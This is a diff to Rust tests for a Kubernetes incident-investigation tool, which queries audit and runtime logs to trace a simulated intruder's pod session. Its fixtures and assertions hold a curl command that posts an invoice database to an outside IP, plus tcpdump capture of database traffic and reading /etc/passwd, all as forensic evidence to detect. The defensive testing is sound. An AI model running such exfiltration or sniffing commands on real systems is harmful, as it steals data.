@@ -29,6 +29,9 @@ const INVENTORY: &str = concat!(
     "/ingest/tests/data/kubectl_get_pods_services_nodes.json"
 );
 
+/// The API request that deletes the exec scenario's pod, two minutes after the sessions.
+const DELETE_INVOICE_API: &str = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"0d9c8b7a-6f5e-4d3c-8b2a-190817263544","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/billing/pods/invoice-api-7d9f8b6c5-abc12","verb":"delete","user":{"username":"mallory@example.com","groups":["developers","system:authenticated"]},"sourceIPs":["203.0.113.77"],"userAgent":"kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc","objectRef":{"resource":"pods","namespace":"billing","name":"invoice-api-7d9f8b6c5-abc12","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":200},"requestReceivedTimestamp":"2026-11-26T10:02:00.000000Z","stageTimestamp":"2026-11-26T10:02:00.050000Z"}"#;
+
 fn strings(v: &serde_json::Value) -> Vec<String> {
     v.as_array()
         .unwrap()
@@ -258,9 +261,8 @@ fn deleted_pods_stay_with_their_deletion_time() {
     ingest(&data, &[later.to_str().unwrap()]);
     // Runtime-only pod deleted through the API after its sessions.
     ingest(&data, &[TETRAGON]);
-    let delete = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"0d9c8b7a-6f5e-4d3c-8b2a-190817263544","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/billing/pods/invoice-api-7d9f8b6c5-abc12","verb":"delete","user":{"username":"mallory@example.com","groups":["developers","system:authenticated"]},"sourceIPs":["203.0.113.77"],"userAgent":"kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc","objectRef":{"resource":"pods","namespace":"billing","name":"invoice-api-7d9f8b6c5-abc12","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":200},"requestReceivedTimestamp":"2026-11-26T10:02:00.000000Z","stageTimestamp":"2026-11-26T10:02:00.050000Z"}"#;
     let delete_file = dir.path().join("delete.jsonl");
-    std::fs::write(&delete_file, format!("{delete}\n")).unwrap();
+    std::fs::write(&delete_file, format!("{DELETE_INVOICE_API}\n")).unwrap();
 
     // A second store: runtime + delete only (the inventory would keep the pod live).
     let runtime = dir.path().join("runtime");
@@ -300,4 +302,138 @@ fn deleted_pods_stay_with_their_deletion_time() {
         "SELECT held_until IS NOT NULL AS ended FROM pod_ips WHERE ip = '10.244.2.31'",
     );
     assert_eq!(rows[0]["ended"], true);
+}
+
+/// The ready-made investigations over the exec scenario and the inventory.
+#[test]
+fn investigations_as_table_functions() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("store");
+    ingest(&data, &[INVENTORY, AUDIT, TETRAGON]);
+
+    // Everything mallory's session did, in time order, one line each.
+    let trace = sql_json(
+        &data,
+        "SELECT kind, what FROM exec_trace('9b3c6a1e-0f43-4d7e-a5c2-1d8e7f6a5b4c')",
+    );
+    let what: Vec<&str> = trace.iter().map(|r| r["what"].as_str().unwrap()).collect();
+    assert_eq!(trace.len(), 8, "{what:#?}");
+    assert!(
+        what[0].starts_with("create pods/exec invoice-api-7d9f8b6c5-abc12 by mallory@example.com"),
+        "{what:#?}"
+    );
+    assert!(what.contains(
+        &"exec /usr/bin/curl -s -X POST --data-binary @/data/invoices.db http://198.51.100.23/upload"
+    ));
+    assert!(
+        what.iter()
+            .any(|w| w.starts_with("connect ") && w.ends_with("198.51.100.23:80")),
+        "{what:#?}"
+    );
+
+    // Who ran tcpdump, where: the workload comes from the runtime row or the inventory.
+    let runs = sql_json(
+        &data,
+        "SELECT node, namespace, pod, workload_kind, workload_name, args FROM executions('tcpdump')",
+    );
+    assert_eq!(runs.len(), 1, "{runs:?}");
+    assert_eq!(runs[0]["pod"], "invoice-api-7d9f8b6c5-abc12");
+    assert_eq!(runs[0]["workload_name"], "invoice-api");
+    assert_eq!(runs[0]["args"], "-i any -w /tmp/cap.pcap port 5432");
+    assert!(sql_json(&data, "SELECT * FROM executions('nmap')").is_empty());
+
+    // Unknown destinations from billing: both sessions' connections, none inside the cluster;
+    // the window narrows them, constant expressions allowed.
+    let unknown = sql_json(
+        &data,
+        "SELECT dst_ip, dst_port FROM egress_unknown('billing') ORDER BY ts",
+    );
+    let ips: Vec<&str> = unknown
+        .iter()
+        .map(|r| r["dst_ip"].as_str().unwrap())
+        .collect();
+    assert_eq!(ips, ["198.51.100.23", "203.0.113.9"]);
+    let none = sql_json(
+        &data,
+        "SELECT * FROM egress_unknown('billing', '2026-11-26T11:00:00Z', now())",
+    );
+    assert!(none.is_empty(), "{none:?}");
+    let window = sql_json(
+        &data,
+        "SELECT dst_ip FROM egress_unknown('billing', TIMESTAMP '2026-11-26 09:00:00', \
+         TIMESTAMP '2026-11-26 09:00:00' + INTERVAL '2 hours')",
+    );
+    assert_eq!(window.len(), 2);
+
+    // The database pod's timeline: its inventory rows and the connection made to it.
+    let timeline = sql_json(
+        &data,
+        "SELECT relation, kind, pod, what FROM pod_timeline('billing', 'ledger-0')",
+    );
+    let relations: Vec<&str> = timeline
+        .iter()
+        .map(|r| r["relation"].as_str().unwrap())
+        .collect();
+    assert!(relations.contains(&"own"), "{timeline:?}");
+    let inbound: Vec<_> = timeline
+        .iter()
+        .filter(|r| r["relation"] == "inbound")
+        .collect();
+    assert_eq!(inbound.len(), 1, "{timeline:?}");
+    assert_eq!(inbound[0]["pod"], "invoice-api-7d9f8b6c5-abc12");
+
+    // Misuse is one clear error.
+    for (query, expected) in [
+        (
+            "SELECT * FROM exec_trace()",
+            "exec_trace(session_id) takes 1 argument(s), got 0",
+        ),
+        (
+            "SELECT * FROM egress_unknown('billing', 'yesterday')",
+            "egress_unknown(namespace, [from], [to]): argument 2 (from) is not a Timestamp",
+        ),
+        (
+            "SELECT * FROM executions(binary_name)",
+            "executions(binary_name): argument 1 (binary_name) must be a constant",
+        ),
+    ] {
+        let o = ktrail(&data, &["sql", query]);
+        assert_eq!(o.status.code(), Some(1));
+        let err = String::from_utf8_lossy(&o.stderr);
+        assert!(err.contains(expected), "{query}: {err}");
+        assert_eq!(err.lines().count(), 1, "{err}");
+    }
+}
+
+/// A deleted pod's timeline ends with its deletion.
+#[test]
+fn pod_timeline_of_a_deleted_pod() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("store");
+    let delete_file = dir.path().join("delete.jsonl");
+    std::fs::write(&delete_file, format!("{DELETE_INVOICE_API}\n")).unwrap();
+    ingest(&data, &[AUDIT, TETRAGON, delete_file.to_str().unwrap()]);
+    let timeline = sql_json(
+        &data,
+        "SELECT ts, relation, kind, what FROM pod_timeline('billing', 'invoice-api-7d9f8b6c5-abc12')",
+    );
+    let last = timeline.last().unwrap();
+    assert_eq!(last["kind"], "pod_deleted", "{timeline:#?}");
+    assert_eq!(last["ts"], "2026-11-26T10:02:00Z");
+    let before = &timeline[timeline.len() - 2];
+    assert_eq!(
+        before["what"],
+        "delete pods invoice-api-7d9f8b6c5-abc12 by mallory@example.com -> 200 [ResponseComplete]"
+    );
+    // Both sessions' processes are in it.
+    assert!(
+        timeline
+            .iter()
+            .any(|r| r["what"] == "exec /usr/sbin/tcpdump -i any -w /tmp/cap.pcap port 5432")
+    );
+    assert!(
+        timeline
+            .iter()
+            .any(|r| r["what"] == "exec /bin/cat /etc/passwd")
+    );
 }
